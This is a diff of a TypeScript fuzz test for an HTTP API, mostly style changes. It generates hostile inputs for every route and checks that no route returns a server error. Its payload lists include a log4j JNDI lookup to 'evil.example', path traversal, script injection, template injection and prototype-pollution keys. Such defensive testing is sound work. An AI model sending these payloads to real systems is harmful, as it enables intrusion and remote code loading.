@@ -75,7 +75,7 @@ interface Operation {
 }
 
 const doc = json<{ paths: Record<string, Record<string, { parameters?: Parameter[]; requestBody?: { content: Record<string, { schema: Schema }> } }>> }>(
-  await app.inject({ method: 'GET', url: '/docs/json' }),
+  await app.inject({ method: 'GET', url: '/docs/json' })
 )
 const operations: Operation[] = Object.entries(doc.paths).flatMap(([path, ops]) =>
   Object.entries(ops).map(([method, op]) => ({
@@ -83,7 +83,7 @@ const operations: Operation[] = Object.entries(doc.paths).flatMap(([path, ops]) 
     path,
     parameters: op.parameters ?? [],
     ...(op.requestBody?.content['application/json'] ? { body: op.requestBody.content['application/json'].schema } : {}),
-  })),
+  }))
 )
 
 // ------------------------------------------------------------------ value generators
@@ -95,6 +95,7 @@ const INJECTIONS = [
   '%2e%2e%2f%2e%2e%2f',
   '<script>alert(1)</script>',
   '{{7*7}}',
+  // eslint-disable-next-line no-template-curly-in-string -- the literal text of a log4j lookup, an injection payload
   '${jndi:ldap://evil.example/a}',
   '\u0000',
   'a\u0000b',
@@ -144,6 +145,7 @@ const HUGE_INTEGERS = ['9223372036854775808', '-9223372036854775809', '184467440
 /** Cursors shaped like this API's own (base64url JSON) but built from the values above. */
 const HOSTILE_CURSORS = [
   ...HUGE_INTEGERS.map((id) => b64json({ id: String(id) })),
+  // eslint-disable-next-line @typescript-eslint/no-loss-of-precision -- a JSON number past 2^53, as an attacker would send it
   b64json({ id: 9223372036854775807 }),
   b64json({ id: '0' }),
   ...UNSTORABLE_DATES.map((at) => b64json({ at, id: SAMPLE_UUID })),
@@ -162,7 +164,7 @@ const hostileLeaf: fc.Arbitrary<unknown> = fc.oneof(
   fc.string({ unit: 'binary', maxLength: 40 }),
   fc.string({ unit: 'grapheme', maxLength: 40 }),
   fc.integer({ min: 1, max: 5000 }).map((n) => 'A'.repeat(n)),
-  fc.constant('x'.repeat(70_000)),
+  fc.constant('x'.repeat(70_000))
 )
 
 const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
@@ -170,16 +172,16 @@ const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 1, arbitrary: fc.array(hostileLeaf, { maxLength: 5 }) },
   { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'a', '$where'), hostileLeaf, { maxKeys: 3 }) },
   { weight: 1, arbitrary: fc.integer({ min: 1, max: 2000 }).map((depth) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown) },
-  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
+  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) }
 )
 
-function schemaValue(schema: Schema): fc.Arbitrary<unknown> {
+function schemaValue (schema: Schema): fc.Arbitrary<unknown> {
   if (schema.anyOf) return fc.oneof(...schema.anyOf.map(schemaValue))
   if (schema.enum) {
     return fc.oneof(
       fc.constantFrom(...schema.enum),
       fc.constantFrom(...schema.enum).map((v) => (typeof v === 'string' ? v.toUpperCase() : v)),
-      fc.constantFrom(...schema.enum).map((v) => (typeof v === 'string' ? ` ${v}\u0000` : v)),
+      fc.constantFrom(...schema.enum).map((v) => (typeof v === 'string' ? ` ${v}\u0000` : v))
     )
   }
   switch (schema.type) {
@@ -190,7 +192,7 @@ function schemaValue(schema: Schema): fc.Arbitrary<unknown> {
           fc.uuid(),
           fc.uuid().map((id) => id.toUpperCase()),
           fc.uuid().map((id) => `urn:uuid:${id}`),
-          fc.constantFrom('00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', randomUUID().toUpperCase(), ...ODD_UUIDS),
+          fc.constantFrom('00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', randomUUID().toUpperCase(), ...ODD_UUIDS)
         )
       }
       if (schema.format === 'date-time') {
@@ -199,7 +201,7 @@ function schemaValue(schema: Schema): fc.Arbitrary<unknown> {
           fc.constantFrom('2026-13-45T99:99:99Z', '0000-00-00T00:00:00Z', '2026-01-01T00:00:00+25:00', ...UNSTORABLE_DATES),
           // Any instant JavaScript holds, far outside what Postgres or RFC 3339's four-digit year can write.
           fc.integer({ min: -8_640_000_000_000_000, max: 8_640_000_000_000_000 }).map((ms) => new Date(ms).toISOString()),
-          fc.tuple(fc.date({ noInvalidDate: true }), fc.constantFrom(':60', ':60.999')).map(([d, leap]) => d.toISOString().replace(/:\d\d\.\d+Z$/, `${leap}Z`)),
+          fc.tuple(fc.date({ noInvalidDate: true }), fc.constantFrom(':60', ':60.999')).map(([d, leap]) => d.toISOString().replace(/:\d\d\.\d+Z$/, `${leap}Z`))
         )
       }
       if (schema.pattern) options.push(fc.stringMatching(new RegExp(schema.pattern)).filter((s) => s.length < 4000))
@@ -222,7 +224,7 @@ function schemaValue(schema: Schema): fc.Arbitrary<unknown> {
       const keys = Object.keys(properties)
       const record = fc.record(
         Object.fromEntries(keys.map((key) => [key, fuzzValue(properties[key]!)])),
-        { requiredKeys: [] },
+        { requiredKeys: [] }
       )
       return fc
         .tuple(record, fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'extra', 'role', 'isAdmin', 'id'), hostileLeaf, { maxKeys: 2 }))
@@ -239,14 +241,14 @@ function schemaValue(schema: Schema): fc.Arbitrary<unknown> {
 }
 
 /** Mostly schema-shaped values, often hostile ones. */
-function fuzzValue(schema: Schema): fc.Arbitrary<unknown> {
+function fuzzValue (schema: Schema): fc.Arbitrary<unknown> {
   return fc.oneof({ weight: 3, arbitrary: schemaValue(schema) }, { weight: 2, arbitrary: hostileValue })
 }
 
 const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g
 
 /** encodeURIComponent, except that a lone surrogate (which it refuses) goes out as its invalid UTF-8 bytes. */
-function safeEncode(text: string): string {
+function safeEncode (text: string): string {
   try {
     return encodeURIComponent(text)
   } catch {
@@ -276,7 +278,7 @@ let accounts = 0
  * role set directly in the database counts after the next revocation poll;
  * setup retries those, and fails loudly on anything else.
  */
-async function injectOk<T>(request: InjectOptions, expected: number): Promise<T> {
+async function injectOk<T> (request: InjectOptions, expected: number): Promise<T> {
   for (let attempt = 0; ; attempt++) {
     const response = await app.inject(request)
     if (response.statusCode === expected) return json<T>(response)
@@ -287,18 +289,18 @@ async function injectOk<T>(request: InjectOptions, expected: number): Promise<T>
   }
 }
 
-async function freshCredentials(): Promise<Credentials> {
+async function freshCredentials (): Promise<Credentials> {
   const signup = (label: string) =>
     injectOk<{ user: { id: string; email: string }; access_token: string; refresh_token: string }>(
       { method: 'POST', url: '/auth/signup', payload: { email: `${label}-${++accounts}-${Date.now()}@fuzz.test`, password: PASSWORD } },
-      201,
+      201
     )
   const user = await signup('user')
   const admin = await signup('admin')
   await app.db.user.update({ where: { id: admin.user.id }, data: { role: 'admin' } })
   const login = await injectOk<{ access_token: string }>(
     { method: 'POST', url: '/auth/token', payload: { grant_type: 'password', username: admin.user.email, password: PASSWORD } },
-    200,
+    200
   )
   const adminToken = login.access_token
   const key = async (token: string, scopes: string[]) =>
@@ -314,7 +316,7 @@ async function freshCredentials(): Promise<Credentials> {
   }
 }
 
-function authHeaders(choice: number, c: Credentials): Record<string, string> {
+function authHeaders (choice: number, c: Credentials): Record<string, string> {
   switch (choice) {
     case 0:
       return {}
@@ -352,7 +354,7 @@ interface FuzzInput {
 
 const RAW_BODIES = ['{', '{"a":', '[1,2', 'null', '"str"', '\uFEFF{}', '{"__proto__":{"x":1}}', '{"a":1,"a":2}', 'a=b&c', '\u0000\u0001', '{}'.repeat(1000), '1e999']
 
-function inputFor(op: Operation, c: Credentials): fc.Arbitrary<FuzzInput> {
+function inputFor (op: Operation, c: Credentials): fc.Arbitrary<FuzzInput> {
   const pathParams = op.parameters.filter((p) => p.in === 'path')
   const queryParams = op.parameters.filter((p) => p.in === 'query')
   const headerParams = op.parameters.filter((p) => p.in === 'header')
@@ -363,7 +365,7 @@ function inputFor(op: Operation, c: Credentials): fc.Arbitrary<FuzzInput> {
     // Another spelling of a real id: urn-prefixed, braced, upper case (finding 5: one id, one comparison).
     knownIds.chain((id) => fc.constantFrom(`urn:uuid:${id}`, `URN:UUID:${id.toUpperCase()}`, `{${id}}`, id.toUpperCase(), id.replaceAll('-', ''), `${id}%00`)),
     fc.constantFrom('..%2f..%2fadmin', '%00', 'x'.repeat(300), '%E0%A4%A', 'null', '-1', '%20', ...HUGE_INTEGERS.map(String)),
-    fc.string({ maxLength: 20 }),
+    fc.string({ maxLength: 20 })
   )
   return fc.record({
     auth: fc.integer({ min: 0, max: 7 }),
@@ -377,7 +379,7 @@ function inputFor(op: Operation, c: Credentials): fc.Arbitrary<FuzzInput> {
   })
 }
 
-function buildRequest(op: Operation, input: FuzzInput, c: Credentials) {
+function buildRequest (op: Operation, input: FuzzInput, c: Credentials) {
   let url = op.path.replace(/\{(\w+)\}/g, (_m, name: string) => {
     const value = asText(input.params[name])
     return /%/.test(value) ? value : safeEncode(value)
@@ -408,7 +410,7 @@ let inputs = 0
 let shed = 0
 const statuses = new Map<number, number>()
 
-async function heapUsedMb(): Promise<number> {
+async function heapUsedMb (): Promise<number> {
   for (let i = 0; i < 3; i++) {
     gc()
     await new Promise((resolve) => setImmediate(resolve))
@@ -430,7 +432,6 @@ t.test('the OpenAPI document lists every route family', async (t) => {
     t.ok(operations.some((op) => op.path.startsWith(prefix)), `${prefix} is fuzzed`)
   }
 })
-
 
 for (const op of operations) {
   t.test(`${op.method} ${op.path}: ${RUNS} generated inputs, no 5xx`, async (t) => {
@@ -457,7 +458,7 @@ for (const op of operations) {
           JSON.parse(response.body)
         }
       }),
-      { numRuns: RUNS },
+      { numRuns: RUNS }
     )
     t.pass(`${op.method} ${op.path}`)
   })
@@ -466,7 +467,7 @@ for (const op of operations) {
 // ------------------------------------------------------------------ the sweep of unstorable values
 
 /** A value the schema accepts, chosen to get past validation and reach the handler. */
-function plausible(schema: Schema, name: string, c: Credentials): unknown {
+function plausible (schema: Schema, name: string, c: Credentials): unknown {
   const known: Record<string, unknown> = {
     email: `sweep-${++accounts}-${Date.now()}@fuzz.test`,
     username: `sweep-${accounts}@fuzz.test`,
@@ -502,7 +503,7 @@ function plausible(schema: Schema, name: string, c: Credentials): unknown {
 }
 
 /** The strongest credential an operation takes, so the value gets past authentication. */
-function sweepAuth(op: Operation, c: Credentials): Record<string, string> {
+function sweepAuth (op: Operation, c: Credentials): Record<string, string> {
   if (op.path.startsWith('/admin')) return { authorization: `Bearer ${c.admin}` }
   if (op.path === '/auth/introspect') return { authorization: `Bearer ${c.introspectKey}` }
   return { authorization: `Bearer ${c.user}` }
@@ -521,7 +522,7 @@ t.test('sweep: every unstorable value in every parameter and top-level body fiel
     for (const target of targets) {
       for (const value of UNSTORABLE) {
         const params: Record<string, unknown> = Object.fromEntries(
-          op.parameters.filter((p) => p.in === 'path').map((p) => [p.name, op.path.includes('session') ? c.sessionId : c.userId]),
+          op.parameters.filter((p) => p.in === 'path').map((p) => [p.name, op.path.includes('session') ? c.sessionId : c.userId])
         )
         const query: Record<string, unknown> = {}
         const headers: Record<string, unknown> = {}
